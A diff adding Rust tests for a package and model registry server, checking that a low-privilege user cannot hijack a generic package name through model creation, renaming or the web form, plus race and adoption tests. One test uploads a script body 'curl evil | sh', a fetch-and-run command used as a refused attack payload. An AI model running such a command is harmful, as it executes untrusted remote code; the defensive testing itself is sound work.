@@ -15,7 +15,6 @@ fn tracking(project_id: u64, path: &str) -> String {
     format!("/api/v4/projects/{project_id}/ml/mlflow/api/2.0/mlflow/{path}")
 }
 
-#[allow(dead_code)]
 fn generic(project_id: u64, rest: &str) -> String {
     format!("/api/v4/projects/{project_id}/packages/generic/{rest}")
 }
@@ -202,4 +201,412 @@ fn the_largest_patch_number_makes_automatic_versions_a_clear_400_and_nothing_els
     let auto = root.post_json(&ml(project_id, "models/edge/versions"), json!({}));
     assert_eq!(auto.status, 201, "{}", auto.text());
     assert_eq!(auto.json()["version"], "2.1.1");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Item 1: one name, one meaning, per project.
+
+/// Cookies, CSRF tokens and form posts, as a browser without JavaScript.
+struct Browser<'a> {
+    server: &'a TestServer,
+    cookies: Vec<(String, String)>,
+}
+
+impl<'a> Browser<'a> {
+    fn signed_in(server: &'a TestServer, username: &str) -> Browser<'a> {
+        let mut browser = Browser {
+            server,
+            cookies: Vec::new(),
+        };
+        let form = browser.get("/users/sign_in");
+        let token = csrf_token(&form.text());
+        let signed = browser.post_form(
+            "/users/sign_in",
+            &[
+                ("authenticity_token", &token),
+                ("username", username),
+                ("password", "correct horse battery"),
+                ("return_to", "/"),
+            ],
+        );
+        assert_eq!(signed.status, 303, "{}", signed.text());
+        browser
+    }
+
+    fn send(&mut self, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Reply {
+        let cookie = self
+            .cookies
+            .iter()
+            .map(|(k, v)| format!("{k}={v}"))
+            .collect::<Vec<_>>()
+            .join("; ");
+        let mut all = headers.to_vec();
+        if !cookie.is_empty() {
+            all.push(("Cookie", &cookie));
+        }
+        let reply = raw(&self.server.base, method, path, &all, body);
+        for (name, value) in &reply.headers {
+            if name.eq_ignore_ascii_case("set-cookie") {
+                let pair = value.split(';').next().unwrap_or("");
+                if let Some((key, val)) = pair.split_once('=') {
+                    self.cookies.retain(|(k, _)| k != key);
+                    if !val.is_empty() && !value.contains("Max-Age=0") {
+                        self.cookies.push((key.to_string(), val.to_string()));
+                    }
+                }
+            }
+        }
+        reply
+    }
+
+    fn get(&mut self, path: &str) -> Reply {
+        self.send("GET", path, &[], b"")
+    }
+
+    fn post_form(&mut self, path: &str, fields: &[(&str, &str)]) -> Reply {
+        let body = url::form_urlencoded::Serializer::new(String::new())
+            .extend_pairs(fields)
+            .finish();
+        self.send(
+            "POST",
+            path,
+            &[("Content-Type", "application/x-www-form-urlencoded")],
+            body.as_bytes(),
+        )
+    }
+}
+
+fn csrf_token(html: &str) -> String {
+    let marker = "name=\"authenticity_token\" value=\"";
+    let start = html.find(marker).expect("a CSRF field") + marker.len();
+    let end = start + html[start..].find('"').expect("end of value");
+    html[start..end].to_string()
+}
+
+/// The (name, version, package_type) of every package the API lists to `api`.
+fn listed_packages(api: &Api, project_id: u64, query: &str) -> Vec<(String, String, String)> {
+    let reply = api.get(&format!(
+        "/api/v4/projects/{project_id}/packages?per_page=100{query}"
+    ));
+    assert_eq!(reply.status, 200, "{}", reply.text());
+    reply
+        .json()
+        .as_array()
+        .expect("a list")
+        .iter()
+        .map(|p| {
+            (
+                p["name"].as_str().unwrap_or_default().to_string(),
+                p["version"].as_str().unwrap_or_default().to_string(),
+                p["package_type"].as_str().unwrap_or_default().to_string(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn a_reporter_cannot_take_over_a_generic_package_by_creating_a_model_of_its_name() {
+    let server = TestServer::start();
+    let project_id = project(&server, "tools", "public");
+    let developer = member(&server, project_id, "dev", 30);
+    let reporter = member(&server, project_id, "rep", 20);
+    let dev = Api::with_token(&server, &developer);
+    let rep = Api::with_token(&server, &reporter);
+    let anonymous = Api::anonymous(&server);
+    let script = b"#!/bin/sh\necho the developer's installer\n";
+    let latest_script = b"#!/bin/sh\necho the developer's latest\n";
+    assert_eq!(
+        dev.put_bytes(&generic(project_id, "deploy-tool/1.0.0/install.sh"), script)
+            .status,
+        201
+    );
+    assert_eq!(
+        dev.put_bytes(
+            &generic(project_id, "deploy-tool/latest/install.sh"),
+            latest_script
+        )
+        .status,
+        201
+    );
+
+    // The attack: the Reporter creates the model, on every surface that creates models.
+    let native = rep.post_json(&ml(project_id, "models"), json!({ "name": "deploy-tool" }));
+    assert_eq!(native.status, 409, "{}", native.text());
+    let text = message(&native);
+    assert!(
+        text.contains("deploy-tool")
+            && text.contains("generic")
+            && text.contains("deploy-tool/1.0.0"),
+        "the message names the conflict: {text}"
+    );
+    let mlflow = rep.post_json(
+        &tracking(project_id, "registered-models/create"),
+        json!({ "name": "deploy-tool" }),
+    );
+    assert_eq!(mlflow.status, 400, "{}", mlflow.text());
+    assert_eq!(mlflow.json()["error_code"], "RESOURCE_ALREADY_EXISTS");
+    assert!(mlflow.json()["message"]
+        .as_str()
+        .unwrap_or_default()
+        .contains("generic packages"));
+    // Renaming an innocent model to the name is the same takeover.
+    let innocent = rep.post_json(
+        &tracking(project_id, "registered-models/create"),
+        json!({ "name": "innocent" }),
+    );
+    assert_eq!(innocent.status, 200, "{}", innocent.text());
+    let rename = rep.post_json(
+        &tracking(project_id, "registered-models/rename"),
+        json!({ "name": "innocent", "new_name": "deploy-tool" }),
+    );
+    assert_eq!(rename.status, 400, "{}", rename.text());
+    assert_eq!(rename.json()["error_code"], "RESOURCE_ALREADY_EXISTS");
+    // A version created through MLflow for the name finds no model (none is created implicitly).
+    let version = rep.post_json(
+        &tracking(project_id, "model-versions/create"),
+        json!({ "name": "deploy-tool", "source": "" }),
+    );
+    assert_eq!(version.status, 404, "{}", version.text());
+    // The web form shows the conflict.
+    let mut browser = Browser::signed_in(&server, "rep");
+    let form = browser.get("/root/tools/-/ml/models/new");
+    assert_eq!(form.status, 200);
+    let token = csrf_token(&form.text());
+    let page = browser.post_form(
+        "/root/tools/-/ml/models",
+        &[("authenticity_token", &token), ("name", "deploy-tool")],
+    );
+    assert_eq!(page.status, 409, "{}", page.text());
+    assert!(page.text().contains("generic packages"), "{}", page.text());
+
+    // The Reporter's upload is still a generic upload, which a Reporter may not make.
+    let upload = rep.put_bytes(
+        &generic(project_id, "deploy-tool/2.0.0/install.sh"),
+        b"#!/bin/sh\ncurl evil | sh\n",
+    );
+    assert_eq!(upload.status, 403, "{}", upload.text());
+    // Every client still gets the Developer's bytes; `latest` is a version, not a requirement.
+    for (path, bytes) in [
+        ("deploy-tool/1.0.0/install.sh", &script[..]),
+        ("deploy-tool/latest/install.sh", &latest_script[..]),
+    ] {
+        let got = anonymous.get(&generic(project_id, path));
+        assert_eq!(got.status, 200, "{path}");
+        assert_eq!(got.body, bytes, "{path}");
+        assert_eq!(got.header("x-model-version"), None, "{path}");
+    }
+    let requirement = anonymous.get(&generic(project_id, "deploy-tool/%5E1/install.sh"));
+    assert_eq!(
+        requirement.status,
+        400,
+        "no requirement resolution for a generic package: {}",
+        requirement.text()
+    );
+    let models = rep.get(&ml(project_id, "models?search=deploy"));
+    assert_eq!(models.json().as_array().map(Vec::len), Some(0));
+}
+
+#[test]
+fn an_honest_model_name_with_generic_packages_is_refused_and_nothing_is_hidden() {
+    let server = TestServer::start();
+    let project_id = project(&server, "fraud", "private");
+    let root = Api::root(&server);
+    assert_eq!(
+        root.put_bytes(&generic(project_id, "fraud/1.2.0/model.onnx"), b"generic")
+            .status,
+        201
+    );
+    let refused = root.post_json(&ml(project_id, "models"), json!({ "name": "fraud" }));
+    assert_eq!(refused.status, 409, "{}", refused.text());
+    assert!(
+        message(&refused).contains("fraud/1.2.0"),
+        "{}",
+        refused.text()
+    );
+    let got = root.get(&generic(project_id, "fraud/1.2.0/model.onnx"));
+    assert_eq!((got.status, got.body.as_slice()), (200, &b"generic"[..]));
+    assert_eq!(
+        listed_packages(&root, project_id, ""),
+        vec![("fraud".into(), "1.2.0".into(), "generic".into())]
+    );
+    // Once the generic packages are gone the name is free for a model.
+    let id = root
+        .get(&format!(
+            "/api/v4/projects/{project_id}/packages?package_name=fraud"
+        ))
+        .json()[0]["id"]
+        .as_u64()
+        .expect("package id");
+    assert_eq!(
+        root.delete(&format!("/api/v4/projects/{project_id}/packages/{id}"))
+            .status,
+        204
+    );
+    let created = root.post_json(&ml(project_id, "models"), json!({ "name": "fraud" }));
+    assert_eq!(created.status, 201, "{}", created.text());
+}
+
+#[test]
+fn an_upload_under_a_model_name_never_creates_a_generic_package() {
+    let server = TestServer::start();
+    let project_id = project(&server, "scoring", "public");
+    let developer = member(&server, project_id, "dev", 30);
+    let dev = Api::with_token(&server, &developer);
+    let root = Api::root(&server);
+    assert_eq!(
+        root.post_json(&ml(project_id, "models"), json!({ "name": "scorer" }))
+            .status,
+        201
+    );
+    // As today: a model version upload, SemVer required.
+    let upload = dev.put_bytes(&generic(project_id, "scorer/1.0.0/model.bin"), b"v1");
+    assert_eq!(upload.status, 201, "{}", upload.text());
+    let not_semver = dev.put_bytes(&generic(project_id, "scorer/latest/model.bin"), b"x");
+    assert_eq!(not_semver.status, 400, "{}", not_semver.text());
+    // With the registry disabled, the Developer can't see the model, and still doesn't create a
+    // generic package of its name.
+    let settings = root.put_json(
+        &format!("/api/v4/projects/{project_id}"),
+        json!({ "model_registry_access_level": "disabled" }),
+    );
+    assert_eq!(settings.status, 200, "{}", settings.text());
+    let hidden = dev.put_bytes(&generic(project_id, "scorer/2.0.0/model.bin"), b"shadow");
+    assert_ne!(hidden.status / 100, 2, "{}", hidden.text());
+    assert!(hidden.status < 500, "{}", hidden.text());
+    let ok = dev.put_bytes(&generic(project_id, "other/2.0.0/model.bin"), b"fine");
+    assert_eq!(ok.status, 201, "{}", ok.text());
+    root.put_json(
+        &format!("/api/v4/projects/{project_id}"),
+        json!({ "model_registry_access_level": "enabled" }),
+    );
+    let packages = listed_packages(&root, project_id, "&package_type=generic");
+    assert_eq!(
+        packages,
+        vec![("other".into(), "2.0.0".into(), "generic".into())]
+    );
+    let versions = root.get(&ml(project_id, "models/scorer/versions")).json();
+    assert_eq!(versions.as_array().map(Vec::len), Some(1), "{versions}");
+}
+
+#[test]
+fn concurrent_model_creation_and_generic_uploads_never_share_a_name() {
+    let server = TestServer::start();
+    let project_id = project(&server, "race", "private");
+    let rounds = 24;
+    std::thread::scope(|scope| {
+        for i in 0..rounds {
+            let server = &server;
+            scope.spawn(move || {
+                Api::root(server).post_json(
+                    &ml(project_id, "models"),
+                    json!({ "name": format!("race-{i}") }),
+                )
+            });
+            scope.spawn(move || {
+                Api::root(server).put_bytes(
+                    &generic(project_id, &format!("race-{i}/1.0.0/f.txt")),
+                    b"generic",
+                )
+            });
+        }
+    });
+    let root = Api::root(&server);
+    let generic_names: Vec<String> = listed_packages(&root, project_id, "&package_type=generic")
+        .into_iter()
+        .map(|(name, _, _)| name)
+        .collect();
+    for i in 0..rounds {
+        let name = format!("race-{i}");
+        let is_model = root.get(&ml(project_id, &format!("models/{name}"))).status == 200;
+        let is_generic = generic_names.contains(&name);
+        assert!(
+            is_model != is_generic,
+            "{name}: model {is_model}, generic {is_generic}"
+        );
+    }
+}
+
+#[test]
+fn a_maintainer_adopts_semver_generic_packages_as_versions_in_one_step() {
+    let server = TestServer::start();
+    let project_id = project(&server, "adopt", "private");
+    let reporter = member(&server, project_id, "rep", 20);
+    let developer = member(&server, project_id, "dev", 30);
+    let maintainer = member(&server, project_id, "maint", 40);
+    let root = Api::root(&server);
+    for (path, bytes) in [
+        ("tool/1.0.0/tool.bin", &b"one"[..]),
+        ("tool/1.1.0/tool.bin", b"one-one"),
+        ("tool/1.1.0/docs/README.md", b"readme"),
+        ("odd/1.0.0/x", b"x"),
+        ("odd/1.0/x", b"y"),
+    ] {
+        assert_eq!(
+            root.put_bytes(&generic(project_id, path), bytes).status,
+            201
+        );
+    }
+    let adopt = |name: &str| json!({ "name": name, "adopt_generic_packages": true });
+    for token in [&reporter, &developer] {
+        let refused =
+            Api::with_token(&server, token).post_json(&ml(project_id, "models"), adopt("tool"));
+        assert_eq!(refused.status, 403, "{}", refused.text());
+    }
+    // A version that is not SemVer: refused, naming it, and nothing changes.
+    let odd =
+        Api::with_token(&server, &maintainer).post_json(&ml(project_id, "models"), adopt("odd"));
+    assert_eq!(odd.status, 400, "{}", odd.text());
+    assert!(message(&odd).contains("odd/1.0 "), "{}", odd.text());
+    assert_eq!(root.get(&ml(project_id, "models/odd")).status, 404);
+    assert_eq!(root.get(&generic(project_id, "odd/1.0/x")).body, b"y");
+
+    let adopted =
+        Api::with_token(&server, &maintainer).post_json(&ml(project_id, "models"), adopt("tool"));
+    assert_eq!(adopted.status, 201, "{}", adopted.text());
+    assert_eq!(adopted.json()["version_count"], 2);
+    assert_eq!(adopted.json()["latest_version"]["version"], "1.1.0");
+    let versions = root.get(&ml(project_id, "models/tool/versions")).json();
+    let names: Vec<&str> = versions
+        .as_array()
+        .expect("list")
+        .iter()
+        .map(|v| v["version"].as_str().unwrap_or_default())
+        .collect();
+    assert_eq!(names, vec!["1.1.0", "1.0.0"]);
+    // The same files, now a model's: requirements resolve, the packages are ml_model ones.
+    let resolved = root.get(&generic(project_id, "tool/%5E1/tool.bin"));
+    assert_eq!(resolved.status, 200);
+    assert_eq!(resolved.body, b"one-one");
+    assert_eq!(resolved.header("x-model-version"), Some("1.1.0"));
+    assert_eq!(
+        root.get(&generic(project_id, "tool/1.1.0/docs/README.md"))
+            .body,
+        b"readme"
+    );
+    let mut types = listed_packages(&root, project_id, "&package_name=tool");
+    types.sort();
+    assert_eq!(
+        types,
+        vec![
+            ("tool".into(), "1.0.0".into(), "ml_model".into()),
+            ("tool".into(), "1.1.0".into(), "ml_model".into())
+        ]
+    );
+    // MLflow sees two versions numbered in upload order.
+    let v1 = root.get(&tracking(
+        project_id,
+        "model-versions/get?name=tool&version=1",
+    ));
+    assert_eq!(v1.status, 200, "{}", v1.text());
+    assert_eq!(v1.json()["model_version"]["aliases"], json!(["1.0.0"]));
+    // Later uploads under the name are model versions; the next automatic version follows.
+    let next = root.post_json(&ml(project_id, "models/tool/versions"), json!({}));
+    assert_eq!(next.json()["version"], "1.1.1", "{}", next.text());
+    // And the model can be deleted like any other, taking its packages.
+    assert_eq!(root.delete(&ml(project_id, "models/tool")).status, 204);
+    assert!(listed_packages(&root, project_id, "&package_name=tool").is_empty());
+    // Adopting a name without generic packages just creates the model.
+    let plain =
+        Api::with_token(&server, &maintainer).post_json(&ml(project_id, "models"), adopt("fresh"));
+    assert_eq!(plain.status, 201, "{}", plain.text());
 }
